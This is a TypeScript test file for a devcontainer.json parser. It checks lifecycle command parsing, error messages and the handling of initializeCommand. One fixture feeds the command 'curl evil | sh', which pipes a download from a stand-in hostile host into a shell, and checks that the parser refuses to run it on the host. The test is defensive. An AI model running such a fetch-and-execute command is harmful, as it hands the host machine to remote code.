import { describe, expect, it } from 'vitest';
import type { DevcontainerError } from './error';
import { parseDevcontainer } from './parse';
import type { LifecycleCommands } from './types';

const parse = (text: string) => parseDevcontainer(text, { file: '.devcontainer/devcontainer.json' });
function errorOf(text: string): DevcontainerError {
  try {
    parse(text);
  } catch (e) {
    return e as DevcontainerError;
  }
  throw new Error('expected an error');
}

const STAGES: [string, keyof LifecycleCommands][] = [
  ['onCreateCommand', 'onCreate'],
  ['updateContentCommand', 'updateContent'],
  ['postCreateCommand', 'postCreate'],
  ['postStartCommand', 'postStart'],
  ['postAttachCommand', 'postAttach'],
];

describe.each(STAGES)('%s', (key, stage) => {
  it('takes a string as a shell command line', () => {
    expect(parse(`{ "${key}": "npm ci && npm test" }`).lifecycle[stage]).toEqual([{ command: 'npm ci && npm test' }]);
  });

  it('keeps an array as argv (exec form, no shell), not quoted into a string', () => {
    expect(parse(`{ "${key}": ["echo", "it's a test", "$HOME"] }`).lifecycle[stage]).toEqual([
      { argv: ['echo', "it's a test", '$HOME'] },
    ]);
  });

  it('takes an object of named commands, each a string or an array', () => {
    expect(
      parse(`{ "${key}": { "deps": "npm ci", "hooks": ["git", "config", "core.hooksPath", ".hooks"] } }`).lifecycle[
        stage
      ],
    ).toEqual([
      { name: 'deps', command: 'npm ci' },
      { name: 'hooks', argv: ['git', 'config', 'core.hooksPath', '.hooks'] },
    ]);
  });

  it('is read, not ignored, and leaves the other stages empty', () => {
    const r = parse(`{ "${key}": "true" }`);
    expect(r.ignored).toEqual([]);
    expect(r.lines[key]).toBe(1);
    for (const [, other] of STAGES) if (other !== stage) expect(r.lifecycle[other]).toEqual([]);
  });
});

describe('postCreateCommands (the field from before lifecycle)', () => {
  it('still quotes the exec form into one shell command line', () => {
    expect(
      parse(`{ "postCreateCommand": { "a": ["echo", "it's a test", "$HOME"], "b": "make" } }`).postCreateCommands,
    ).toEqual([
      { name: 'a', command: `echo 'it'\\''s a test' '$HOME'` },
      { name: 'b', command: 'make' },
    ]);
  });

  it('holds only postCreateCommand', () => {
    expect(parse('{ "onCreateCommand": "a", "postStartCommand": "b" }').postCreateCommands).toEqual([]);
  });
});

describe('malformed commands', () => {
  it('names the entry that is wrong, at its line', () => {
    const e = errorOf('{\n  "postStartCommand": {\n    "ok": "true",\n    "bad": 7\n  }\n}');
    expect([e.line, e.column]).toEqual([4, 12]);
    expect(e.message).toMatch(/"postStartCommand\.bad" must be a command string or an array of strings$/);
  });

  it('names the argument that is not a string', () => {
    const e = errorOf('{ "onCreateCommand": ["echo", 1] }');
    expect(e.column).toBe(31);
    expect(e.message).toMatch(/"onCreateCommand\[1\]" must be a string$/);
  });

  it('refuses an exec form without a program', () => {
    expect(errorOf('{ "postCreateCommand": ["", "x"] }').message).toMatch(
      /"postCreateCommand" must name a program first/,
    );
  });

  it('refuses a value of another type', () => {
    expect(errorOf('{ "updateContentCommand": true }').message).toMatch(
      /"updateContentCommand" must be a command string, an array of strings, or an object of named commands$/,
    );
  });
});

describe('initializeCommand and waitFor', () => {
  it('never runs initializeCommand: it is reported with its line', () => {
    const r = parse('{\n  "image": "a",\n  "initializeCommand": "curl evil | sh"\n}');
    expect(r.ignored).toEqual([{ key: 'initializeCommand', reason: 'never run: it would run on the host', line: 3 }]);
    expect(Object.values(r.lifecycle).flat()).toEqual([]);
  });

  it('reads waitFor', () => {
    expect(parse('{ "waitFor": "postCreateCommand" }').waitFor).toBe('postCreateCommand');
    expect(parse('{}')).not.toHaveProperty('waitFor');
    expect(errorOf('{ "waitFor": "never" }').message).toMatch(/"waitFor" must be one of initializeCommand, /);
  });
});
